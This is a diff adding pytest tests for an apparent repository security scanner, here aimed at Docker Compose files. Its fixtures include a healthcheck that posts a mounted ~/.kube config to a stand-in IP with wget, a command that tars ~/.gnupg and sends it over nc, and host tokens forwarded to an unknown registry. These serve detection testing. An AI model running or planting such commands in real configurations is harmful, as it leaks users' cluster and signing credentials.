@@ -189,3 +189,96 @@ def test_a_knex_seed_file_that_runs_a_download_is_read_as_javascript(tmp_path: P
     )
     errors = scan_errors(tmp_path, {"db/seeds/01_users.js": seed})
     assert ("DOWNLOAD_AND_RUN", "db/seeds/01_users.js", 3) in errors
+
+
+# --- compose and dev-container services ---------------------------------------------------------
+
+
+def test_a_service_mounting_kube_config_and_posting_it_from_its_healthcheck(tmp_path: Path) -> None:
+    compose = (
+        "services:\n"
+        "  probe:\n"
+        "    image: busybox:1.36\n"
+        "    volumes:\n"
+        "      - type: bind\n"
+        "        source: ${HOME}/.kube\n"
+        "        target: /cfg\n"
+        "    healthcheck:\n"
+        '      test: ["CMD-SHELL", "wget -q --post-file=/cfg/config http://198.51.100.90/h || true"]\n'
+        "      interval: 30s\n"
+    )
+    findings = scan_findings(tmp_path, {"stack/compose.yaml": compose})
+    (error,) = [f for f in findings if f.rule == "CREDENTIAL_EXFILTRATION" and f.severity.value == "error"]
+    assert error.evidence[0].line == 5 and error.evidence[0].what.startswith("mounts")
+    assert error.evidence[-1].line == 9
+
+
+def test_a_command_string_sending_a_mounted_gnupg_folder(tmp_path: Path) -> None:
+    compose = (
+        "services:\n"
+        "  backup:\n"
+        "    build: .\n"
+        "    volumes: ['~/.gnupg:/data/g:ro']\n"
+        "    command: sh -c 'tar c /data/g | nc 203.0.113.91 7000'\n"
+    )
+    errors = scan_errors(tmp_path, {"docker-compose.yml": compose})
+    assert any(rule in ("CREDENTIAL_EXFILTRATION", "REMOTE_SHELL") for rule, _, _ in errors)
+
+
+def test_a_mounted_aws_folder_used_by_the_aws_cli_is_no_error(tmp_path: Path) -> None:
+    compose = (
+        "services:\n"
+        "  publish:\n"
+        "    image: amazon/aws-cli:2.15.0\n"
+        "    volumes:\n"
+        "      - ~/.aws:/root/.aws:ro\n"
+        "      - ./site:/site:ro\n"
+        "    command: s3 sync /site s3://docs-site-bucket --delete\n"
+    )
+    findings = scan_findings(tmp_path, {"docker-compose.yml": compose})
+    assert [f.severity.value for f in findings if f.rule == "CREDENTIAL_EXFILTRATION"] == ["warning"]
+
+
+def test_host_tokens_forwarded_to_an_image_from_an_unknown_registry(tmp_path: Path) -> None:
+    compose = (
+        "services:\n"
+        "  agent:\n"
+        "    image: registry.ci-helpers.invalid/agent:latest\n"
+        "    environment:\n"
+        "      - LOG_LEVEL=debug\n"
+        "      - GITHUB_TOKEN\n"
+        "      - NPM_TOKEN=${NPM_TOKEN}\n"
+    )
+    errors = scan_errors(tmp_path, {"compose.yml": compose})
+    assert ("CREDENTIAL_EXFILTRATION", "compose.yml", 3) in errors
+
+
+def test_tokens_to_a_known_registry_image_and_literal_passwords_stay_quiet(tmp_path: Path) -> None:
+    compose = (
+        "services:\n"
+        "  db:\n"
+        "    image: postgres:16\n"
+        "    environment:\n"
+        "      POSTGRES_PASSWORD: example\n"
+        "  app:\n"
+        "    image: ghcr.io/acme/app:1.2\n"
+        "    environment:\n"
+        "      - API_TOKEN\n"
+    )
+    assert scan_findings(tmp_path, {"compose.yml": compose}) == []
+
+
+def test_a_compose_file_including_a_remote_one_runs_its_services(tmp_path: Path) -> None:
+    compose = (
+        "include:\n  - https://stacks.example.invalid/dev/compose.yaml\nservices:\n  web:\n    image: nginx:1.27\n"
+    )
+    errors = scan_errors(tmp_path, {"compose.yaml": compose})
+    assert ("DOWNLOAD_AND_RUN", "compose.yaml", 2) in errors
+
+
+def test_a_local_include_and_extends_stay_quiet(tmp_path: Path) -> None:
+    compose = (
+        "include:\n  - ./db/compose.yaml\n"
+        "services:\n  web:\n    extends:\n      file: common.yml\n      service: base\n    image: nginx:1.27\n"
+    )
+    assert scan_findings(tmp_path, {"compose.yaml": compose}) == []
